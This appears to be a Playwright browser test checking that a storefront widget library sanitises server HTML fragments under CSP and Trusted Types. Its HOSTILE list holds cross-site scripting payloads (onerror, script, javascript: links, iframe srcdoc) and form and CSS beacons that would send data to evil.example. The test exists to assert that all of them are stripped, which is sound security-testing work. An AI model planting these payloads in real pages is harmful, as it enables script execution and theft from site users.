// Vitrine's one HTML path (core/html.ts) in real Chromium: a widget's server fragment, loaded by the built bundle on a
// fixture page under the fixture server's CSP with Trusted Types enforced, enters the DOM sanitised.
import { CSP } from "../../fixtures/server/http";
import { expect, idle, test } from "./fixtures";

const PAGE = "/pages/search-results.html";
const MENU = /\/jcr:content\/component-header\.newmenu[^/]*\.html/;

// Appended to the real menu fragment: each line is one way a fragment could run code or leak a URL.
const HOSTILE = [
  `<img id="bad-img" src="data:image/png;base64,AAAA" onerror="window.hacked='onerror'">`,
  `<script>window.hacked='script'</script>`,
  `<a id="js-link" href="javascript:window.hacked='href'">Hostile link</a>`,
  `<svg><a id="svg-link" href="javascript:window.hacked='svg'"><text>x</text></a></svg>`,
  `<iframe id="frame" srcdoc="<script>parent.hacked='iframe'</script>"></iframe>`,
  `<p id="kept" data-part-number="VT1" onclick="window.hacked='onclick'">Kept text</p>`,
  `<form id="steal" action="//evil.example/steal"><button formaction="https://evil.example/b">Send</button></form>`,
  `<p id="beacon" style="background:url(//evil.example/x)">Styled</p>`,
  `<form id="local" action="/pages/search-results.html"><button>Local</button></form>`,
].join("");

test.beforeEach(async ({ page }) => {
  // Counts image load failures at the document, before any inline handler on the image could run.
  await page.addInitScript(() => {
    const scope = window as unknown as { imageErrors: number };
    scope.imageErrors = 0;
    document.addEventListener("error", (event) => event.target instanceof HTMLImageElement && scope.imageErrors++, true);
  });
});

test("the fixture page enforces the storefront CSP with Trusted Types: a raw string cannot reach an HTML sink", async ({ page, watch }) => {
  watch.allowErrors(/TrustedHTML|Trusted Type/i);
  const response = await page.goto(PAGE);
  expect(response!.headers()["content-security-policy"]).toBe(CSP);
  const error = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML("beforeend", "<b>raw</b>");
      return "";
    } catch (e) {
      return String(e);
    }
  });
  expect(error).toMatch(/TrustedHTML/);
});

test("a header-menu fragment with hostile markup is shown sanitised, through Vitrine's policy, and runs nothing", async ({
  page,
  watch,
}) => {
  // Chromium files a script-src-attr report whenever it parses an inline handler under this CSP, even in the inert
  // <template> the sanitiser parses in; the handler is blocked there and stripped. That report is expected.
  // The same holds for the hostile style attribute: parsing it files a style-src-attr report; the assertions below
  // show that it never reaches the page.
  watch.allowErrors(
    /^Executing inline event handler violates/,
    /^CSP violation: script-src-attr inline$/,
    /^Applying inline style violates the following Content Security Policy directive 'style-src 'self''/,
    /^CSP violation: style-src-attr inline$/,
  );
  await page.route(MENU, async (route) => {
    const real = await route.fetch();
    await route.fulfill({ response: real, body: (await real.text()) + HOSTILE });
  });
  await page.goto(PAGE);
  await idle(page);
  await page.getByRole("button", { name: "Menu" }).click();
  const panel = page.locator(".vitrine-header-menu__panel");
  await expect(panel.getByRole("link", { name: "All bags" })).toBeVisible(); // the real fragment
  await expect(panel.locator("#kept")).toHaveText("Kept text");
  await expect(panel.locator("#kept")).toHaveAttribute("data-part-number", "VT1");

  // The image failed to load (so a surviving onerror would have run by now), and nothing ran.
  await expect.poll(() => page.evaluate(() => (window as unknown as { imageErrors: number }).imageErrors)).toBe(1);
  await panel.locator("#kept").click();
  expect(await page.evaluate(() => (window as unknown as { hacked?: string }).hacked ?? "nothing")).toBe("nothing");

  const html = await panel.innerHTML();
  expect(html).not.toMatch(/onerror|onclick|<script|javascript:|<iframe|srcdoc/i);
  await expect(panel.locator("#bad-img")).toHaveCount(1);
  await expect(panel.locator("#js-link")).not.toHaveAttribute("href", /./);
  // No exfiltration path survives: off-origin form targets and CSS URLs are dropped, same-origin ones kept.
  expect(html).not.toMatch(/evil\.example/);
  await expect(panel.locator("#steal")).not.toHaveAttribute("action", /./);
  await expect(panel.locator("#beacon")).toHaveText("Styled");
  await expect(panel.locator("#local")).toHaveAttribute("action", "/pages/search-results.html");
});
